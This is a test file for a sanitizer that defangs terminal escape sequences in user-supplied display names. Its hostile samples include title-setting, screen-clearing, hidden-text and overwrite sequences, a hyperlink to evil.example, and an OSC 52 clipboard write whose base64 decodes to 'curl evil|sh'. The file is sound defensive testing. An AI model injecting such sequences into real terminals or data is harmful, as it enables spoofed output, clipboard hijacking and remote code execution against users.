import { describe, expect, it } from 'vitest';
import { escapeJsonControls, sanitize } from '../../src/output/sanitize.js';

/** Strings a hostile org member could put in a display name, and what a terminal must show instead. */
const HOSTILE: Array<[string, string, string]> = [
  ['OSC 0 window title', '\u001b]0;pwned\u0007Eve', '^[]0;pwned^GEve'],
  ['OSC 52 clipboard write', '\u001b]52;c;Y3VybCBldmlsfHNo\u0007', '^[]52;c;Y3VybCBldmlsfHNo^G'],
  ['OSC 8 hyperlink', '\u001b]8;;https://evil.example\u001b\\Click\u001b]8;;\u001b\\', '^[]8;;https://evil.example^[\\Click^[]8;;^[\\'],
  ['clear screen', '\u001b[2J\u001b[HEve', '^[[2J^[[HEve'],
  ['hidden text (SGR 8)', '\u001b[8msecret\u001b[0m', '^[[8msecret^[[0m'],
  ['C1 CSI (0x9b)', '\u009b31mred', '^[[31mred'],
  ['C1 OSC (0x9d) and ST (0x9c)', '\u009d0;t\u009c', '^[]0;t^[\\'],
  ['backspace over text', 'admin\b\b\b\b\buser', 'admin^H^H^H^H^Huser'],
  ['bare carriage return', 'Eve\rAdministrator', 'Eve^MAdministrator'],
  ['DEL', 'a\u007fb', 'a^?b'],
  ['NUL and BEL', '\u0000\u0007', '^@^G'],
  ['DCS', '\u001bP1$qm\u001b\\', '^[P1$qm^[\\'],
  ['plain unicode stays', 'Zoë 日本 😀', 'Zoë 日本 😀'],
];

describe('sanitize', () => {
  it.each(HOSTILE)('%s', (_name, input, shown) => {
    expect(sanitize(input)).toBe(shown);
  });

  it('leaves no ESC, C1, DEL or bare CR in anything it returns', () => {
    for (const [, input] of HOSTILE) expect(sanitize(input)).not.toMatch(/[\u0000-\u001f\u007f-\u009f]/);
  });

  it('keeps newlines and tabs only when asked, and reads CRLF as a newline', () => {
    expect(sanitize('a\r\nb\tc')).toBe('a^M^Jb^Ic');
    expect(sanitize('a\r\nb\tc\rd', { newlines: true, tabs: true })).toBe('a\nb\tc^Md');
  });
});

describe('escapeJsonControls', () => {
  it('escapes C1 and DEL, which JSON.stringify leaves raw, and parses back to the same value', () => {
    const value = { name: '\u009b2J\u007f\u001b]0;x\u0007' };
    const text = escapeJsonControls(JSON.stringify(value));
    expect(text).not.toMatch(/[\u0000-\u001f\u007f-\u009f]/);
    expect(text).toContain('\\u009b2J\\u007f');
    expect(JSON.parse(text)).toEqual(value);
  });
});
